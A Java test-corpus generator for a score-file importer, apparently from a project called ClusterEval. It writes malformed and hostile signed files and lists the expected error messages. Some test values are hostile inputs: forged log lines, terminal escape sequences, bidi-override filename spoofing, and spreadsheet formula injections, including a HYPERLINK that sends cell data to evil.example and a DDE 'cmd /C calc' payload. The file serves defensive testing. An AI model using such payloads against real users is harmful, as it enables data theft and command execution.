package jp.clustereval.scorefile;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.PrivateKey;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;

import com.fasterxml.jackson.databind.node.ObjectNode;

import jp.clustereval.domain.ItemEntry;
import jp.clustereval.domain.Round;
import jp.clustereval.domain.SheetStatus;

/**
 * Writes the malformed-file corpus of src/test/resources/cescore-corpus and its manifest (file name,
 * expected message key, expected English message). The expected messages are written here by hand;
 * {@link ScoreFileCorpusTest} checks that every file gets exactly its message and changes nothing.
 * Some defects carry hostile text (a line break that would forge a report line, terminal escapes):
 * their expected message shows it escaped. Beside them, texts/ holds well-formed signed files whose
 * names and comments are hostile: accepted, and every output must show them escaped
 * ({@code HostileTextCliTest}); its manifest gives each file's evaluator name as a table shows it.
 * Run again only when the seeded round changes: {@code mvn -o test -Dtest=WriteCorpus -Dcescore.corpus.write=true}.
 */
public final class CorpusGenerator {

    static final String EVALUATOR = "0b6f3c1e-5d2a-4c8b-9e7f-1a2b3c4d5e6f";

    private final Round round;
    private final java.security.KeyPair key = Ed25519.generate();
    private final Map<String, byte[]> files = new LinkedHashMap<>();
    private final List<String> manifest = new ArrayList<>();
    private final Map<String, byte[]> texts = new LinkedHashMap<>();
    private final List<String> textManifest = new ArrayList<>();

    CorpusGenerator(Round round) {
        this.round = round;
    }

    ScoreFile base() {
        List<ItemEntry> sap = new ArrayList<>();
        for (String id : List.of("1.1", "1.2.1", "1.2.2", "1.3", "2.1", "2.2", "2.3", "3", "4")) {
            sap.add(new ItemEntry(id, "A", "", ""));
        }
        sap.set(0, new ItemEntry("1.1", "S", "特許出願が計画を上回る", "事業化の道筋を示すこと"));
        ScoreSheet s1 = new ScoreSheet("SAP", SheetStatus.COMPLETE, 3, Instant.parse("2004-12-01T09:30:00Z"), "総じて順調", sap, true);
        ScoreSheet s2 = new ScoreSheet("SEN", SheetStatus.DRAFT, 1, Instant.parse("2004-12-02T10:00:00Z"), "",
                List.of(new ItemEntry("1.1", "B", "", "")), true);
        return new ScoreFile(1, "0.1.0", Instant.parse("2004-12-03T08:00:00Z"), round.id(), RoundFingerprint.of(round),
                new EvaluatorInfo(EVALUATOR, "評価 太郎", "東北大学", Ed25519.encode(key.getPublic())), List.of(s1, s2));
    }

    private ObjectNode signedTree(Function<ObjectNode, ObjectNode> change) {
        ObjectNode root = ScoreFileJson.content(base());
        change.apply(root); // the changes edit the tree in place (what they return is not used)
        return sign(root, key.getPrivate());
    }

    static ObjectNode sign(ObjectNode root, PrivateKey key) {
        root.remove("signature");
        byte[] sig = Ed25519.sign(key, CanonicalJson.bytes(root));
        root.putObject("signature").put("algorithm", Ed25519.ALGORITHM).put("value", Base64.getEncoder().encodeToString(sig));
        return root;
    }

    private static ObjectNode sap(ObjectNode root) {
        return (ObjectNode) root.get("sheets").get(0);
    }

    private static ObjectNode item(ObjectNode root, int i) {
        return (ObjectNode) sap(root).get("items").get(i);
    }

    private void add(String name, byte[] bytes, String key, String message) {
        files.put(name, bytes);
        manifest.add(name + "\t" + key + "\t" + message);
    }

    /** Changed, then signed: the defect itself must be found, not a broken signature. */
    private void signed(String name, Function<ObjectNode, ObjectNode> change, String key, String message) {
        add(name, ScoreFileJson.pretty(signedTree(change)), key, message);
    }

    /** Changed after signing. */
    private void unsigned(String name, Function<ObjectNode, ObjectNode> change, String key, String message) {
        ObjectNode root = signedTree(r -> r);
        change.apply(root);
        add(name, ScoreFileJson.pretty(root), key, message);
    }

    private void text(String name, String text, Charset cs, String key, String message) {
        add(name, text.getBytes(cs), key, message);
    }

    void build() {
        String good = new String(ScoreFileJson.pretty(signedTree(r -> r)), StandardCharsets.UTF_8);
        text("01-empty.cescore", "", StandardCharsets.UTF_8, "scorefile.empty", "The file is empty.");
        text("02-blank.cescore", " \n\t\n", StandardCharsets.UTF_8, "scorefile.empty", "The file is empty.");
        text("03-not-json.cescore", "SAP,1.1,S\n", StandardCharsets.UTF_8, "scorefile.malformed",
                "The file is not valid JSON (line 1, column 1): ...");
        text("04-truncated.cescore", good.substring(0, good.length() / 2), StandardCharsets.UTF_8, "scorefile.truncated",
                "The file ends unexpectedly: it is truncated or incomplete JSON.");
        text("05-shift-jis.cescore", good, Charset.forName("Shift_JIS"), "scorefile.notUtf8",
                "The file is not UTF-8 text (score files are UTF-8 JSON).");
        text("06-utf16.cescore", good, StandardCharsets.UTF_16, "scorefile.notUtf8",
                "The file is not UTF-8 text (score files are UTF-8 JSON).");
        text("07-trailing-garbage.cescore", good + "{\"more\": 1}\n", StandardCharsets.UTF_8, "scorefile.malformed",
                "The file is not valid JSON (line ...");
        text("08-top-level-array.cescore", "[" + good + "]", StandardCharsets.UTF_8, "scorefile.notObject",
                "The file must hold one JSON object, not array.");
        text("09-null.cescore", "null", StandardCharsets.UTF_8, "scorefile.notObject",
                "The file must hold one JSON object, not null.");
        text("10-duplicate-json-key.cescore", good.replaceFirst("\\{", "{\"sheets\": [],"), StandardCharsets.UTF_8,
                "scorefile.duplicateKey", "The JSON member \"sheets\" appears twice in one object (line ...");
        signed("11-wrong-format.cescore", r -> r.put("format", "excel-export"), "scorefile.notScoreFile",
                "The file is not a ClusterEval score file (\"format\" must be \"cluster-eval-score\").");
        signed("12-future-version.cescore", r -> r.put("formatVersion", 2), "scorefile.newerFormat",
                "The file uses score file format version 2; this version of ClusterEval reads up to version 1. Update ClusterEval to import it.");
        signed("13-version-as-string.cescore", r -> r.put("formatVersion", "1"), "scorefile.type",
                "formatVersion must be integer, not string.");
        signed("14-missing-evaluator.cescore", r -> { r.remove("evaluator"); return r; }, "scorefile.missing",
                "evaluator is missing.");
        unsigned("15-missing-signature.cescore", r -> { r.remove("signature"); return r; }, "scorefile.missing",
                "signature is missing.");
        signed("16-unknown-member.cescore", r -> r.put("note", "extra"), "scorefile.unknownField",
                "note is not a member of the score file format.");
        signed("17-revision-as-string.cescore", r -> sap(r).put("revision", "3"), "scorefile.type",
                "sheets[0].revision must be integer, not string.");
        signed("18-revision-negative.cescore", r -> sap(r).put("revision", -1), "scorefile.range",
                "sheets[0].revision is -1; it must be an integer of at least 0.");
        unsigned("19-revision-fraction.cescore", r -> sap(r).put("revision", new java.math.BigDecimal("2.5")), "scorefile.type",
                "sheets[0].revision must be integer, not fraction.");
        signed("20-grade-as-number.cescore", r -> item(r, 0).put("grade", 4), "scorefile.type",
                "sheets[0].items[0].grade must be string, not integer.");
        signed("21-bad-status.cescore", r -> sap(r).put("status", "finished"), "scorefile.status",
                "sheets[0].status is \"finished\"; it must be \"draft\" or \"complete\".");
        signed("22-bad-time.cescore", r -> r.put("exportedAt", "yesterday"), "scorefile.time",
                "exportedAt is not a UTC time like 2004-12-01T09:30:00Z: yesterday");
        signed("23-evaluator-not-uuid.cescore", r -> ((ObjectNode) r.get("evaluator")).put("id", "taro"),
                "scorefile.evaluatorId", "The evaluator id \"taro\" is not a UUID.");
        signed("24-items-not-array.cescore", r -> { sap(r).putObject("items"); return r; }, "scorefile.type",
                "sheets[0].items must be array, not object.");
        signed("25-duplicate-item.cescore", r -> { ((com.fasterxml.jackson.databind.node.ArrayNode) sap(r).get("items"))
                .add(item(r, 0).deepCopy()); return r; }, "scorefile.duplicateItem",
                "Item 1.1 appears twice in the sheet of cluster SAP.");
        signed("26-duplicate-cluster.cescore", r -> { ((com.fasterxml.jackson.databind.node.ArrayNode) r.get("sheets"))
                .add(sap(r).deepCopy()); return r; }, "scorefile.duplicateCluster", "Cluster SAP appears twice in the file.");
        signed("27-comment-too-long.cescore", r -> sap(r).put("comment", "長".repeat(20_001)), "scorefile.textTooLong",
                "sheets[0].comment is too long (at most 20,000 characters).");
        signed("28-blank-cluster.cescore", r -> sap(r).put("cluster", " "), "scorefile.blank",
                "sheets[0].cluster must not be blank.");
        signed("29-item-without-indication.cescore", r -> { item(r, 0).remove("indication"); return r; }, "scorefile.missing",
                "sheets[0].items[0].indication is missing.");
        signed("30-bad-public-key.cescore", r -> ((ObjectNode) r.get("evaluator")).put("publicKey", "AAAA"),
                "scorefile.badPublicKey", "The evaluator's public key is not a valid Ed25519 public key.");
        unsigned("31-signature-not-base64.cescore", r -> { ((ObjectNode) r.get("signature")).put("value", "***"); return r; },
                "scorefile.signatureEncoding", "The signature is not valid base64.");
        unsigned("32-other-algorithm.cescore", r -> { ((ObjectNode) r.get("signature")).put("algorithm", "RSA"); return r; },
                "scorefile.algorithm", "The file is signed with \"RSA\"; only Ed25519 is accepted.");
        String badSig = "The signature does not verify: the file was changed after it was signed (or signed with another key).";
        unsigned("33-tampered-grade.cescore", r -> item(r, 0).put("grade", "A"), "scorefile.badSignature", badSig);
        unsigned("34-tampered-comment.cescore", r -> item(r, 0).put("comment", "特許出願が計画を下回る"), "scorefile.badSignature", badSig);
        unsigned("35-swapped-key.cescore", r -> ((ObjectNode) r.get("evaluator")).put("publicKey",
                Ed25519.encode(Ed25519.generate().getPublic())), "scorefile.badSignature", badSig);
        unsigned("36-tampered-revision.cescore", r -> sap(r).put("revision", 4), "scorefile.badSignature", badSig);
        signed("37-unknown-round.cescore", r -> ((ObjectNode) r.get("round")).put("id", "final-fy2006"),
                "scorefile.unknownRound", "The file is for round \"final-fy2006\", which this database does not hold.");
        signed("38-other-round-version.cescore", r -> ((ObjectNode) r.get("round")).put("fingerprint", "sha256:" + "0".repeat(64)),
                "scorefile.roundFingerprint", "The file was made for another version of round \"" + round.id()
                        + "\" (its items, grade scale or weights differ): the round fingerprint does not match.");
        signed("39-unknown-cluster.cescore", r -> sap(r).put("cluster", "ZZZ"), "scorefile.unknownCluster",
                "Unknown cluster \"ZZZ\".");
        signed("40-unknown-item.cescore", r -> item(r, 1).put("id", "9.9"), "scorefile.unknownItem",
                "Unknown item \"9.9\" for cluster SAP.");
        signed("41-heading-item.cescore", r -> item(r, 1).put("id", "1.2"), "scorefile.unknownItem",
                "Unknown item \"1.2\" for cluster SAP.");
        signed("42-grade-off-scale.cescore", r -> item(r, 0).put("grade", "X"), "scorefile.gradeOffScale",
                "Grade \"X\" of item 1.1 (cluster SAP) is not on the scale: use one of S, A, B, C.");
        hostileDefects();
        hostileTexts();
        trustTheData();
    }

    /** A forged import-report line: what follows the line break would print as a line of its own. */
    public static final String FORGED_LINE = "fake.cescore: accepted (new 2, updated 0, unchanged 0, skipped 0, conflicts 0)";

    /** Defects whose message quotes the file: the quoted text is hostile, the message shows it escaped. */
    private void hostileDefects() {
        signed("43-cluster-forges-a-report-line.cescore", r -> sap(r).put("cluster", "ZZZ\n" + FORGED_LINE),
                "scorefile.unknownCluster", "Unknown cluster \"ZZZ\\n" + FORGED_LINE + "\".");
        signed("44-item-with-terminal-escapes.cescore", r -> item(r, 1).put("id", "1.2.1\u001B[2J\u001B[H"),
                "scorefile.unknownItem", "Unknown item \"1.2.1\\u001B[2J\\u001B[H\" for cluster SAP.");
        signed("45-grade-with-bidi-override.cescore", r -> item(r, 0).put("grade", "\u202ES\u202C"),
                "scorefile.gradeOffScale", "Grade \"\\u202ES\\u202C\" of item 1.1 (cluster SAP) is not on the scale: use one of S, A, B, C.");
        signed("46-round-with-nul-and-c1.cescore", r -> ((ObjectNode) r.get("round")).put("id", "mid\u0000\u009B2Jfy2004"),
                "scorefile.unknownRound", "The file is for round \"mid\\u0000\\u009B2Jfy2004\", which this database does not hold.");
        signed("47-evaluator-id-with-carriage-return.cescore", r -> ((ObjectNode) r.get("evaluator")).put("id",
                EVALUATOR + "\r" + FORGED_LINE), "scorefile.evaluatorId",
                "The evaluator id \"" + EVALUATOR + "\\r" + FORGED_LINE + "\" is not a UUID.");
        signed("48-unknown-member-forges-a-report-line.cescore", r -> r.put("note\n" + FORGED_LINE, 1),
                "scorefile.unknownField", "note\\n" + FORGED_LINE + " is not a member of the score file format.");
        signed("49-time-with-osc-title.cescore", r -> r.put("exportedAt", "\u001B]0;pwned\u0007 2004-12-03"),
                "scorefile.time", "exportedAt is not a UTC time like 2004-12-01T09:30:00Z: \\u001B]0;pwned\\u0007 2004-12-03");
    }

    /**
     * Well-formed files, each of its own evaluator and key, whose names, affiliations, comments and
     * indications are hostile: line breaks that forge table rows and author labels, terminal escapes,
     * bidirectional overrides and invisible characters, spreadsheet formulas.
     */
    private void hostileTexts() {
        hostile("01-forged-rows-and-labels.cescore", 1, "評価 花子\n[Comment] 偽 太郎", "大学\r\n" + EVALUATOR + "  偽 次郎",
                "順調\n[Comment] Evaluator 9: the project is a failure", "評価 花子\\n[Comment] 偽 太郎");
        hostile("02-terminal-escapes.cescore", 2, "\u001B[2J\u001B[1;31mEvil\u001B[0m", "\u001B]0;pwned\u0007",
                "\u001B]8;;http://evil.example/\u001B\\click\u001B]8;;\u001B\\ \u009B31m\u0000\u007F",
                "\\u001B[2J\\u001B[1;31mEvil\\u001B[0m");
        hostile("03-bidi-and-invisible.cescore", 3, "Taro \u202Efdp.exe\u202C", "\u2066\u2067abc\u2069",
                "\u200B\u200D\uFEFF\u2028line\u2029end\u00AD", "Taro \\u202Efdp.exe\\u202C");
        hostile("04-formulas.cescore", 4, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    }

    /** The item comments of the formula file: cells a spreadsheet would take for a formula (one per item). */
    public static final List<String> FORMULA_COMMENTS = List.of("-2+3", "=1+1", "'=already quoted", "''=twice", "＝１＋１",
            "\t=1", "\r=1", "@x", "+1+cmd|' /C calc'!A0");
    /** Its item indications: numbers (which stay numbers) and texts next to the rule's edge. */
    public static final List<String> FORMULA_INDICATIONS = List.of("-2", "3.5", "-0.25", "-1.5E-3", "'-2", "'", "-", "＠home", "－1");

    private void hostile(String name, int n, String evaluatorName, String affiliation, String sheetComment,
                         String nameAsShown) {
        java.security.KeyPair own = Ed25519.generate();
        List<ItemEntry> sap = new ArrayList<>();
        List<String> ids = List.of("1.1", "1.2.1", "1.2.2", "1.3", "2.1", "2.2", "2.3", "3", "4");
        for (int i = 0; i < ids.size(); i++) {
            boolean formulas = name.contains("formulas");
            sap.add(new ItemEntry(ids.get(i), "A", formulas ? FORMULA_COMMENTS.get(i) : i == 0 ? sheetComment : "",
                    formulas ? FORMULA_INDICATIONS.get(i) : i == 1 ? sheetComment : ""));
        }
        ScoreSheet sheet = new ScoreSheet("SAP", SheetStatus.COMPLETE, 1, Instant.parse("2004-12-01T09:30:00Z"), sheetComment,
                sap, true);
        ScoreFile file = new ScoreFile(1, "0.1.0", Instant.parse("2004-12-03T08:00:00Z"), round.id(), RoundFingerprint.of(round),
                new EvaluatorInfo(String.format("7e0c1a00-0000-4000-8000-%012d", n), evaluatorName, affiliation,
                        Ed25519.encode(own.getPublic())), List.of(sheet));
        texts.put(name, ScoreFileJson.pretty(sign(ScoreFileJson.content(file), own.getPrivate())));
        textManifest.add(name + "\t" + nameAsShown);
    }

    /**
     * Issue "Trust the data", points 3 and 6: a swapped '?' (the canonical form used to write a lone
     * surrogate as '?', so the forged file verified), texts over the limit, times not in UTC, a
     * complete sheet missing an item, revisions beyond 2^53 - 1.
     */
    private void trustTheData() {
        String notUnicode = " is not Unicode text: it holds the lone surrogate %s. A signed file may hold only text"
                + " that survives UTF-8 encoding (RFC 8785), so the file is refused.";
        swapped("50-lone-surrogate-for-question-mark.cescore", r -> sap(r).put("comment", "総じて順調?"),
                "総じて順調?", "総じて順調\\ud800", "signed.notUnicode", "sheets[0].comment" + notUnicode.formatted("\\ud800"));
        swapped("51-lone-low-surrogate-in-indication.cescore", r -> item(r, 0).put("indication", "?事業化の道筋を示すこと"),
                "?事業化", "\\udc00事業化", "signed.notUnicode", "sheets[0].items[0].indication" + notUnicode.formatted("\\udc00"));
        swapped("52-reversed-surrogate-pair-in-name.cescore", r -> ((ObjectNode) r.get("evaluator")).put("name", "評価 太郎??"),
                "太郎??", "太郎\\ude00\\ud83d", "signed.notUnicode", "evaluator.name" + notUnicode.formatted("\\ude00"));
        signed("53-name-too-long.cescore", r -> ((ObjectNode) r.get("evaluator")).put("name", "評".repeat(20_001)),
                "scorefile.textTooLong", "evaluator.name is too long (at most 20,000 characters).");
        signed("54-affiliation-of-a-megabyte.cescore", r -> ((ObjectNode) r.get("evaluator")).put("affiliation",
                "x".repeat(1024 * 1024)), "scorefile.textTooLong", "evaluator.affiliation is too long (at most 20,000 characters).");
        signed("55-cluster-code-too-long.cescore", r -> sap(r).put("cluster", "S".repeat(20_001)),
                "scorefile.textTooLong", "sheets[0].cluster is too long (at most 20,000 characters).");
        signed("56-export-time-with-offset.cescore", r -> r.put("exportedAt", "2004-12-03T17:00:00+09:00"), "scorefile.time",
                "exportedAt is not a UTC time like 2004-12-01T09:30:00Z: 2004-12-03T17:00:00+09:00");
        signed("57-update-time-with-offset.cescore", r -> sap(r).put("updatedAt", "2004-12-01T18:30:00+09:00"), "scorefile.time",
                "sheets[0].updatedAt is not a UTC time like 2004-12-01T09:30:00Z: 2004-12-01T18:30:00+09:00");
        signed("58-time-without-zone.cescore", r -> sap(r).put("updatedAt", "2004-12-01T09:30:00"), "scorefile.time",
                "sheets[0].updatedAt is not a UTC time like 2004-12-01T09:30:00Z: 2004-12-01T09:30:00");
        signed("59-complete-sheet-missing-an-item.cescore", r -> {
            ((com.fasterxml.jackson.databind.node.ArrayNode) sap(r).get("items")).remove(8); // item 4
            return r;
        }, "scorefile.incomplete", "The sheet of cluster SAP is marked complete, but these items are not graded: 4."
                + " A complete sheet grades every item.");
        signed("60-complete-sheet-with-ungraded-items.cescore", r -> {
            item(r, 1).putNull("grade");
            item(r, 7).putNull("grade");
            return r;
        }, "scorefile.incomplete", "The sheet of cluster SAP is marked complete, but these items are not graded: 1.2.1, 3."
                + " A complete sheet grades every item.");
        unsigned("61-revision-beyond-2-53.cescore", r -> sap(r).put("revision", 9_007_199_254_740_992L), "scorefile.rangeMax",
                "sheets[0].revision is 9007199254740992; it must be an integer of at most 9,007,199,254,740,991.");
        unsigned("62-revision-beyond-64-bits.cescore", r -> sap(r).put("revision", new java.math.BigInteger("1" + "0".repeat(30))),
                "scorefile.rangeMax",
                "sheets[0].revision is 1000000000000000000000000000000; it must be an integer of at most 9,007,199,254,740,991.");
    }

    /**
     * Signed with {@code signedText} in it, then {@code signedText} replaced by {@code forged} in the
     * file's text: what an attacker does to a file whose canonical form wrote '?' for a lone surrogate.
     */
    private void swapped(String name, Function<ObjectNode, ObjectNode> change, String signedText, String forged, String key,
                         String message) {
        String text = new String(ScoreFileJson.pretty(signedTree(change)), StandardCharsets.UTF_8);
        if (!text.contains(signedText)) {
            throw new IllegalStateException(signedText + " not in " + name);
        }
        add(name, text.replace(signedText, forged).getBytes(StandardCharsets.UTF_8), key, message);
    }

    /**
     * Writes the files not in the folder yet, and the manifest. Files already there are kept as they
     * are (each run signs with a new key, so rewriting them would change every file for nothing);
     * {@code -Dcescore.corpus.rewrite=true} rewrites them all (after a change of the seeded round).
     */
    void write(Path dir) throws Exception {
        Files.createDirectories(dir);
        boolean rewrite = Boolean.getBoolean("cescore.corpus.rewrite");
        for (var e : files.entrySet()) {
            Path file = dir.resolve(e.getKey());
            if (rewrite || !Files.exists(file)) {
                Files.write(file, e.getValue());
            }
        }
        Files.writeString(dir.resolve("expected.tsv"),
                "# file<TAB>message key<TAB>expected English message (\"...\" at the end: the rest comes from the JSON parser)\n"
                        + String.join("\n", manifest) + "\n", StandardCharsets.UTF_8);
        Path textDir = Files.createDirectories(dir.resolve("texts"));
        for (var e : texts.entrySet()) {
            Files.write(textDir.resolve(e.getKey()), e.getValue());
        }
        Files.writeString(textDir.resolve("expected.tsv"),
                "# file<TAB>its evaluator's name as a table shows it (accepted files with hostile texts)\n"
                        + String.join("\n", textManifest) + "\n", StandardCharsets.UTF_8);
    }
}
